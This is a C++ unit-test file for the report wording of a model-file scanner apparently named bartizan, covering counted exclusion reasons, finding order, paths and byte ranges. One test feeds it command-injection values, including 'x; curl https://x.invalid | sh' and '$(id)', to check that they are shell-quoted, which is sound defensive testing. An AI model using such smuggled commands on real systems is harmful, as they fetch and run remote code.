#include "report/words.h"

#include <doctest/doctest.h>

#include "report/sample_test.h"

namespace bartizan::report {
namespace {

TEST_CASE("why paths were not looked at is counted, one and several") {
  const std::vector<record::Excluded> one{{"a", "broken link"}, {"b", "not a regular file (FIFO)"}};
  CHECK(counted_reasons(one, true) == "1 broken link, 1 not a regular file (FIFO)");
  std::vector<record::Excluded> several(1'200, {"a", "broken link"});
  several.push_back({"b", "folder of git's own objects, 25 files; name it to read it"});
  CHECK(counted_reasons(several, true) ==
        "1,200 broken links, 1 folder of git's own objects, 25 files; name it to read it");
  several.resize(2);
  several.push_back({"b", "folder of git's own objects, 25 files; name it to read it"});
  several.push_back({"c", "folder of git's own objects, 1 file; name it to read it"});
  several.push_back({"d", "not a regular file (socket)"});
  several.push_back({"e", "not a regular file (socket)"});
  CHECK(counted_reasons(several, true) ==
        "2 broken links, 2 that are no regular files (socket), 2 folders of git's own objects, "
        "26 files; name one to read it");
}

TEST_CASE("the files of a store are counted as others are") {
  const std::string reason = "file of this program's own store";
  CHECK(counted_reasons(std::vector<record::Excluded>(3, {"a", reason}), true) ==
        "3 files of this program's own store");
}

TEST_CASE("a remedy can be pasted whatever the name in it") {
  record::Finding finding;
  finding.subject = "acme.preproc.Scaler";
  CHECK(fill_command("allow add {subject}", finding) == "allow add acme.preproc.Scaler");
  finding.subject = "x; curl https://x.invalid | sh";
  CHECK(fill_command("allow add {subject}", finding) ==
        "allow add 'x; curl https://x.invalid | sh'");
  finding.subject = "$(id)'`id`";
  CHECK(fill_command("allow add {subject}!", finding) == "allow add '$(id)'\\''`id`'!");
}

TEST_CASE("texts are filled from subject and evidence, and only once") {
  record::Finding finding;
  finding.subject = "{call}";
  finding.evidence = {{"call", "f()"}};
  CHECK(record::fill("{subject} and {call}, not {unknown}.", finding) == "{call} and f(), not .");
  CHECK(record::fill("open {brace", finding) == "open {brace");
  CHECK(general("calls {call} in {subject}") == "calls … in …");
}

TEST_CASE("artifacts and findings come worst first, those of one rule together") {
  const record::ScanReport report = sample::report();
  const auto artifacts = worst_first(report);
  REQUIRE(artifacts.size() == 7);
  CHECK(artifacts[0]->path == "models/triage-v2.pt");
  CHECK(artifacts[6]->verdict == record::Verdict::not_a_model);
  record::Artifact artifact = report.artifacts[4];
  artifact.findings.push_back(sample::call(1, 9, "f()"));
  const auto findings = worst_first(artifact);
  CHECK(findings[0]->rule == "BZ-PKL-012");
  CHECK(findings[1]->rule == "BZ-PKL-021");
}

TEST_CASE("paths name the root only where several were scanned") {
  record::Artifact artifact;
  artifact.root = "models/";
  artifact.path = "a.pt";
  CHECK(Words(sample::catalog(), false, true).path(artifact) == "a.pt");
  CHECK(Words(sample::catalog(), true, true).path(artifact) == "models/a.pt");
  artifact.path = ".";
  CHECK(Words(sample::catalog(), true, true).path(artifact) == "models/");
}

TEST_CASE("places are named in the bytes a reader can find") {
  const record::Artifact artifact = sample::report().artifacts[4];
  const Words words(sample::catalog(), false, true);
  CHECK(words.range(artifact, 1, {1'284, 1}) == "byte 1,284");
  CHECK(words.range(artifact, 2, {10, 20}) == "decoded bytes 10 to 29");
  CHECK(words.range(artifact, 0, {0, 20'480}) == "");
  CHECK(words.member(artifact, 2) == "b.pt › archive/data.pkl");
}

}  // namespace
}  // namespace bartizan::report
